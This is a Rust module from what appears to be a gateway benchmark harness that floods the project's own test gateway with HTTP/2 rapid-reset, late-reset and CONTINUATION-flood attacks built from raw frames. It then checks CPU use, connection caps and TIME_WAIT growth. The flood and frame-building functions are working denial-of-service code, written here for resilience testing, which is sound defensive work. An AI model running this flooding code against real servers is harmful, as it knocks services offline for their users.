//! `h2flood`: HTTP/2 attacks written as raw frames, each against a fresh gateway for
//! `--flood-duration`, while legitimate HTTP/1.1 requests flow at a modest fixed rate:
//!
//! * rapid reset: streams opened (HEADERS with END_STREAM) and reset at once (RST_STREAM
//!   CANCEL), in batches, as fast as the connection takes them. The gateway reads each stream's
//!   HEADERS and RST_STREAM together, before it has accepted the stream;
//! * late reset: the same, but each batch of RST_STREAM follows its HEADERS 1 ms later, as
//!   a client that drops its requests at once does: the gateway has accepted the streams and
//!   begun forwarding them, so this is the attack its `http2_max_resets_per_10s` counts;
//! * CONTINUATION flood: a HEADERS frame without END_HEADERS, then CONTINUATION frames of junk,
//!   as fast as the connection takes them.
//!
//! `--flood-connections` attackers each reconnect when the gateway closes them. When the
//! duration is over they stop reconnecting, and the connections still open go on attacking for
//! up to `GRACE` before they count as never closed. The gateway's service has
//! `max_connections_per_endpoint: 64` so that the cap shows in the upstreams' peak connections.

use super::probe::{self, Ports, Sampler, Watch};
use super::{
    open_loop, Args, Gateway, Proto, Report, Row, Target, Timing, Tweaks, Upstreams, HOST_NAME,
};
use anyhow::Result;
use hdrhistogram::Histogram;
use serde_json::json;
use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

/// The gateway's `max_connections_per_endpoint` here (its default is 1024).
const UPSTREAM_CAP: u64 = 64;
/// The legitimate load beside each attack.
const LEGIT_RATE: f64 = 200.0;
const LEGIT_CONNECTIONS: usize = 4;
/// Streams (rapid reset) or CONTINUATION frames written at a time.
const BATCH: usize = 32;
/// Junk bytes in each CONTINUATION frame.
const JUNK_BYTES: usize = 1024;
/// How long `late reset` waits between a batch's HEADERS and its RST_STREAM frames.
const RESET_AFTER: Duration = Duration::from_millis(1);
/// How long the connections still open at the end of an attack go on before they count as
/// never closed.
const GRACE: Duration = Duration::from_secs(2);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
// Frame types and flags (RFC 9113 §6).
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const ACK: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: u32 = 0x8;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Attack {
    RapidReset,
    LateReset,
    Continuation,
}

impl Attack {
    const ALL: [Attack; 3] = [Attack::RapidReset, Attack::LateReset, Attack::Continuation];

    fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid reset",
            Attack::LateReset => "late reset",
            Attack::Continuation => "continuation",
        }
    }
}

/// Appends one frame.
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).expect("small frames");
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// `GET http://bench.example.com/` in HPACK: three static-table entries and `:authority` as a
/// literal that is not indexed.
fn request_block() -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x84, 0x01, HOST_NAME.len() as u8];
    block.extend_from_slice(HOST_NAME.as_bytes());
    block
}

/// The GOAWAY error codes a gateway may send, by name.
fn error_name(code: u32) -> String {
    match code {
        0x0 => "NO_ERROR".into(),
        0x1 => "PROTOCOL_ERROR".into(),
        0x2 => "INTERNAL_ERROR".into(),
        0x6 => "FRAME_SIZE_ERROR".into(),
        0x9 => "COMPRESSION_ERROR".into(),
        0xb => "ENHANCE_YOUR_CALM".into(),
        other => format!("error {other:#x}"),
    }
}

/// Live counts, for the progress lines.
#[derive(Default)]
struct Live {
    closed: AtomicU64,
    frames: AtomicU64,
}

/// What the attackers of one attack saw.
struct FloodTally {
    opened: u64,
    connect_failed: u64,
    first_error: Option<String>,
    /// Closed by the gateway, and after how long (µs from the connect).
    closed: u64,
    lifetimes: Histogram<u64>,
    /// Still open `GRACE` after the attack: given up on.
    never_closed: u64,
    /// Streams opened and reset (rapid reset) or CONTINUATION frames sent.
    frames: u64,
    /// The GOAWAY error code received before each close, `None` for a close without one.
    goaways: BTreeMap<Option<u32>, u64>,
}

impl FloodTally {
    fn new() -> FloodTally {
        FloodTally {
            opened: 0,
            connect_failed: 0,
            first_error: None,
            closed: 0,
            lifetimes: probe::lifetimes(),
            never_closed: 0,
            frames: 0,
            goaways: BTreeMap::new(),
        }
    }

    fn merge(&mut self, other: &FloodTally) {
        self.opened += other.opened;
        self.connect_failed += other.connect_failed;
        if self.first_error.is_none() {
            self.first_error.clone_from(&other.first_error);
        }
        self.closed += other.closed;
        self.lifetimes
            .add(&other.lifetimes)
            .expect("histograms with the same bounds merge");
        self.never_closed += other.never_closed;
        self.frames += other.frames;
        for (code, n) in &other.goaways {
            *self.goaways.entry(*code).or_default() += n;
        }
    }

    fn goaway_text(&self) -> String {
        let parts: Vec<String> = self
            .goaways
            .iter()
            .map(|(code, n)| match code {
                Some(code) => format!("{n} × {}", error_name(*code)),
                None => format!("{n} × none"),
            })
            .collect();
        if parts.is_empty() {
            "-".into()
        } else {
            parts.join(", ")
        }
    }
}

/// `h2flood`: each attack on a fresh gateway.
pub(super) async fn run(args: &Args, own: &Upstreams, report: &mut Report) -> Result<()> {
    for attack in Attack::ALL {
        run_attack(args, own, attack, report).await?;
    }
    Ok(())
}

async fn run_attack(
    args: &Args,
    own: &Upstreams,
    attack: Attack,
    report: &mut Report,
) -> Result<()> {
    let upstreams = &own.addrs;
    // Connections the upstreams hold already, from gateways of earlier scenarios.
    let held_before: Option<Vec<u64>> = own.seen.as_ref().map(|seen| {
        seen.iter()
            .map(|s| s.open.load(Ordering::Relaxed))
            .collect()
    });
    let requests_before = upstream_requests(own);
    let tweaks = Tweaks {
        upstream_cap: Some(UPSTREAM_CAP as usize),
        ..Tweaks::default()
    };
    let gw = Gateway::start(args, upstreams, &tweaks).await?;
    let target = Target::gateway(gw.listen, Proto::H1);
    let ports = Ports {
        gateway: gw.listen.port(),
        upstreams: [upstreams.stable.port(), upstreams.canary.port()],
        gateway_pid: gw.pid,
    };
    let tw_before = probe::sockets(ports);
    if let Some(seen) = &own.seen {
        seen.iter().for_each(|s| s.reset_peak());
    }

    let name = attack.name();
    eprintln!(
        "  h2flood {name}: {} connections for {:.1} s, {LEGIT_RATE}/s legitimate",
        args.flood_connections,
        args.flood_duration.as_secs_f64()
    );
    let sampler = Sampler::start(gw.pid, Some(ports));
    let watch = Watch::start(gw.pid)?;
    let started = Instant::now();
    let stop_opening = started + args.flood_duration;
    let live = Arc::new(Live::default());
    let attackers = attack_all(
        attack,
        gw.listen,
        args.flood_connections,
        stop_opening,
        live.clone(),
    );
    let timing = Timing {
        warmup: Duration::ZERO,
        duration: args.flood_duration,
    };
    let label = format!("h2flood {name}: legit {LEGIT_RATE}/s");
    let progress = spawn_live_progress(name, live, started, stop_opening);
    let (legit, flood) = tokio::join!(
        open_loop(&label, &target, LEGIT_CONNECTIONS, LEGIT_RATE, timing),
        probe::on_own_thread("load-flood", attackers),
    );
    progress.abort();
    let after = probe::sockets(ports);
    let (legit, (flood, attack_thread)) = (legit?, flood?);
    let watched = watch.stop(attack_thread)?;
    let samples = sampler.stop().await?;
    gw.check_alive()?;
    let closed_lines = probe::closed_lines(&gw).await?;
    let requests = upstream_requests(own)
        .zip(requests_before)
        .map(|(after, before)| after - before);
    // The gateway's connections to each upstream: at the gateway's end, every 100 ms; and as
    // the upstreams counted them, every one, but with their closes seen late.
    let peaks = samples.peak_to_upstream;
    let counted: Option<Vec<u64>> = own.seen.as_ref().zip(held_before).map(|(seen, before)| {
        seen.iter()
            .zip(before)
            .map(|(s, b)| s.peak.load(Ordering::Relaxed).saturating_sub(b))
            .collect()
    });
    let tw_before = [tw_before.time_wait_gateway, tw_before.time_wait_upstreams];
    let tw_after = [after.time_wait_gateway, after.time_wait_upstreams];
    let per_second: Vec<[u64; 2]> = samples
        .sockets
        .iter()
        .map(|s| [s.time_wait_gateway, s.time_wait_upstreams])
        .collect();
    let tw_peak: Vec<u64> = (0..2)
        .map(|i| {
            let sampled = per_second.iter().map(|s| s[i]);
            sampled.chain([tw_after[i]]).max().unwrap_or(0)
        })
        .collect();

    // The goals.
    let cpu_share = watched.gateway_cpu;
    let peak_upstream = peaks.iter().max().copied().unwrap_or(0);
    let tw_grown = [
        tw_after[0].saturating_sub(tw_before[0]),
        tw_after[1].saturating_sub(tw_before[1]),
    ];
    // Closing first costs the gateway a TIME_WAIT per attacking connection it closes; its own
    // upstream connections should at most be replaced once per endpoint, not once per stream.
    let tw_bound = [flood.closed, 2 * UPSTREAM_CAP];
    let goals = [
        cpu_share <= 1.0,
        flood.never_closed == 0 && flood.closed > 0,
        peak_upstream <= UPSTREAM_CAP,
        tw_grown[0] <= tw_bound[0] && tw_grown[1] <= tw_bound[1],
    ];
    // Written to the socket: much of it is never read, when the gateway closes first.
    let frames_what = match attack {
        Attack::RapidReset | Attack::LateReset => "streams written (HEADERS and RST_STREAM)",
        Attack::Continuation => "CONTINUATION frames written",
    };

    report.notes.push(format!(
        "h2flood {name}: {} attacking at once for {:.1} s: {} connections opened, {} closed by \
         the gateway after {} (min / median / max), {} never closed, {} refused; {} {frames_what}; \
         GOAWAY before the close: {}",
        args.flood_connections,
        args.flood_duration.as_secs_f64(),
        flood.opened,
        flood.closed,
        probe::spread_text(&flood.lifetimes, "ms"),
        flood.never_closed,
        flood.connect_failed,
        flood.frames,
        flood.goaway_text(),
    ));
    let mut upstream_text = format!(
        "the gateway's connections to stable / canary peaked at {} / {} (cap {UPSTREAM_CAP}; its \
         sockets, read every 100 ms)",
        peaks[0], peaks[1]
    );
    match (&requests, &counted) {
        (Some(requests), Some(counted)) => upstream_text.push_str(&format!(
            " and the upstreams, which see closes late, counted up to {} / {} open; {requests} \
             requests reached the upstreams ({} legitimate 2xx answers among them)",
            counted[0],
            counted[1],
            legit.answered()
        )),
        _ => upstream_text.push_str("; the upstreams of --upstreams count no requests"),
    }
    report.notes.push(format!(
        "h2flood {name}: {upstream_text}; TIME_WAIT toward the gateway {} → {} (peak {}), toward \
         the upstreams {} → {} (peak {}); {}",
        tw_before[0],
        tw_after[0],
        tw_peak[0],
        tw_before[1],
        tw_after[1],
        tw_peak[1],
        watched.text(),
    ));
    report.notes.push(format!(
        "h2flood {name}: the gateway's counters at the end:\n    {}",
        closed_lines.join("\n    ")
    ));
    let sent = legit.answered() + legit.errors();
    let p99 = legit.latency.value_at_quantile(0.99);
    report.notes.push(format!(
        "h2flood {name} goals: at most one core: {} ({cpu_share:.2}); the attacking connections \
         closed: {} ({} of {} closed, {} never); upstream connections within the cap: {} ({} ≤ \
         {UPSTREAM_CAP}); TIME_WAIT bounded: {} (+{} toward the gateway, at most one per close: \
         {}; +{} toward the upstreams, at most {}). Legitimate: {} of {sent} succeeded, p99 {:.1} ms",
        probe::met(goals[0]),
        probe::met(goals[1]),
        flood.closed,
        flood.opened,
        flood.never_closed,
        probe::met(goals[2]),
        peak_upstream,
        probe::met(goals[3]),
        tw_grown[0],
        tw_bound[0],
        tw_grown[1],
        tw_bound[1],
        legit.answered(),
        p99 as f64 / 1e3,
    ));

    let extra = json!({
        "attack": name,
        "legit_rate": LEGIT_RATE,
        "flood_duration_s": args.flood_duration.as_secs_f64(),
        "attacking_connections": args.flood_connections,
        "opened": flood.opened,
        "connect_failed": flood.connect_failed,
        "first_connect_error": flood.first_error,
        "closed_by_gateway": flood.closed,
        "never_closed": flood.never_closed,
        "lifetime": probe::spread_json(&flood.lifetimes),
        "frames": flood.frames,
        "goaways": flood.goaways.iter().map(|(code, n)| {
            (code.map_or("none".to_string(), error_name), json!(n))
        }).collect::<serde_json::Map<_, _>>(),
        "cpu": watched.json(),
        "upstream_requests": requests,
        "upstream_peak_connections": { "gateway_sockets": peaks, "upstreams_counted": counted },
        "upstream_cap": UPSTREAM_CAP,
        "time_wait": {
            "toward_gateway": { "before": tw_before[0], "after": tw_after[0], "peak": tw_peak[0] },
            "toward_upstreams": { "before": tw_before[1], "after": tw_after[1], "peak": tw_peak[1] },
            "per_second": per_second,
        },
        "closed_counters": closed_lines,
        "goals": {
            "at_most_one_core": goals[0], "attacking_connections_closed": goals[1],
            "upstream_within_cap": goals[2], "time_wait_bounded": goals[3],
        },
    });
    let target_name = format!("legit, {name}");
    let row = Row::from_tally("h2flood", &target_name, &legit, timing.duration, extra);
    report.push(row, &legit);
    gw.note_log(report);
    Ok(())
}

/// Requests the bench's own upstreams have answered, both together.
fn upstream_requests(own: &Upstreams) -> Option<u64> {
    own.seen.as_ref().map(|seen| {
        seen.iter()
            .map(|s| s.requests.load(Ordering::Relaxed))
            .sum()
    })
}

/// `n` attackers until `stop_opening`, merged.
async fn attack_all(
    attack: Attack,
    addr: SocketAddr,
    n: usize,
    stop_opening: Instant,
    live: Arc<Live>,
) -> FloodTally {
    let slots: Vec<_> = (0..n)
        .map(|_| tokio::spawn(attacker(attack, addr, stop_opening, live.clone())))
        .collect();
    let mut total = FloodTally::new();
    for slot in slots {
        match slot.await {
            Ok(tally) => total.merge(&tally),
            Err(e) => {
                total
                    .first_error
                    .get_or_insert(format!("attacker panicked: {e}"));
            }
        }
    }
    total
}

/// One attacker: connects and attacks until the gateway closes the connection, and again, until
/// `stop_opening`.
async fn attacker(
    attack: Attack,
    addr: SocketAddr,
    stop_opening: Instant,
    live: Arc<Live>,
) -> FloodTally {
    let mut tally = FloodTally::new();
    let give_up = stop_opening + GRACE;
    while Instant::now() < stop_opening {
        let stream = match probe::connect_attacker(addr).await {
            Ok(stream) => stream,
            Err(e) => {
                tally.connect_failed += 1;
                tally.first_error.get_or_insert(e.to_string());
                tokio::time::sleep(Duration::from_millis(10)).await;
                continue;
            }
        };
        let _ = stream.set_nodelay(true);
        let opened = Instant::now();
        tally.opened += 1;
        let (mut rd, mut wr) = stream.into_split();
        let owe_ack = AtomicBool::new(false);
        let frames = AtomicU64::new(0);
        let closed = tokio::select! {
            goaway = read_frames(&mut rd, &owe_ack) => Some(goaway),
            () = flood(attack, &mut wr, &owe_ack, &frames, &live) => unreachable!("floods never end"),
            () = tokio::time::sleep_until(give_up.into()) => None,
        };
        tally.frames += frames.load(Ordering::Relaxed);
        match closed {
            Some(goaway) => {
                tally.closed += 1;
                probe::record(&mut tally.lifetimes, opened.elapsed());
                *tally.goaways.entry(goaway).or_default() += 1;
                live.closed.fetch_add(1, Ordering::Relaxed);
            }
            None => tally.never_closed += 1,
        }
    }
    tally
}

/// Writes the attack as fast as the connection takes it; on a failed write (the gateway
/// closed), waits for ever, leaving the reader to see the close.
async fn flood(
    attack: Attack,
    wr: &mut OwnedWriteHalf,
    owe_ack: &AtomicBool,
    frames: &AtomicU64,
    live: &Live,
) {
    let block = request_block();
    let mut buf = PREFACE.to_vec();
    frame(&mut buf, SETTINGS, 0, 0, &[]);
    if attack == Attack::Continuation {
        // Stream 1's head, never finished.
        frame(&mut buf, HEADERS, END_STREAM, 1, &block);
    }
    let junk = vec![b'x'; JUNK_BYTES];
    // Client stream ids are odd and run out at 2^31.
    let next = |id: u32| id.wrapping_add(2) & 0x7fff_ffff;
    let mut stream = 1u32;
    let mut written = wr.write_all(&buf).await;
    while written.is_ok() {
        buf.clear();
        if owe_ack.swap(false, Ordering::Relaxed) {
            frame(&mut buf, SETTINGS, ACK, 0, &[]);
        }
        let first = stream;
        for _ in 0..BATCH {
            match attack {
                Attack::RapidReset => {
                    frame(&mut buf, HEADERS, END_STREAM | END_HEADERS, stream, &block);
                    frame(&mut buf, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                    stream = next(stream);
                }
                Attack::LateReset => {
                    frame(&mut buf, HEADERS, END_STREAM | END_HEADERS, stream, &block);
                    stream = next(stream);
                }
                Attack::Continuation => frame(&mut buf, CONTINUATION, 0, 1, &junk),
            }
        }
        written = wr.write_all(&buf).await;
        if attack == Attack::LateReset && written.is_ok() {
            tokio::time::sleep(RESET_AFTER).await;
            buf.clear();
            let mut id = first;
            for _ in 0..BATCH {
                frame(&mut buf, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
                id = next(id);
            }
            written = wr.write_all(&buf).await;
        }
        if written.is_ok() {
            frames.fetch_add(BATCH as u64, Ordering::Relaxed);
            live.frames.fetch_add(BATCH as u64, Ordering::Relaxed);
        }
    }
    std::future::pending::<()>().await;
}

/// Reads the gateway's frames until it closes the connection: notes a SETTINGS frame to be
/// acknowledged, and returns the error code of the last GOAWAY seen.
async fn read_frames(rd: &mut OwnedReadHalf, owe_ack: &AtomicBool) -> Option<u32> {
    let mut buf = Vec::with_capacity(16 * 1024);
    let mut goaway = None;
    let mut chunk = vec![0u8; 16 * 1024];
    loop {
        match rd.read(&mut chunk).await {
            Ok(0) | Err(_) => return goaway,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
        let mut at = 0;
        while buf.len() - at >= 9 {
            let len = u32::from_be_bytes([0, buf[at], buf[at + 1], buf[at + 2]]) as usize;
            if buf.len() - at < 9 + len {
                break;
            }
            let (kind, flags) = (buf[at + 3], buf[at + 4]);
            let payload = &buf[at + 9..at + 9 + len];
            if kind == SETTINGS && flags & ACK == 0 {
                owe_ack.store(true, Ordering::Relaxed);
            }
            if kind == GOAWAY && len >= 8 {
                goaway = Some(u32::from_be_bytes([
                    payload[4], payload[5], payload[6], payload[7],
                ]));
            }
            at += 9 + len;
        }
        buf.drain(..at);
    }
}

/// Prints the attacking connections closed and the frames sent once a second while the attack
/// lasts.
fn spawn_live_progress(
    name: &'static str,
    live: Arc<Live>,
    started: Instant,
    end: Instant,
) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        for second in 1.. {
            let at = started + Duration::from_secs(second);
            if at > end {
                break;
            }
            tokio::time::sleep_until(at.into()).await;
            eprintln!(
                "  h2flood {name}: {second:>3} s {} attacking connections closed, {} frames",
                live.closed.load(Ordering::Relaxed),
                live.frames.load(Ordering::Relaxed)
            );
        }
    })
}
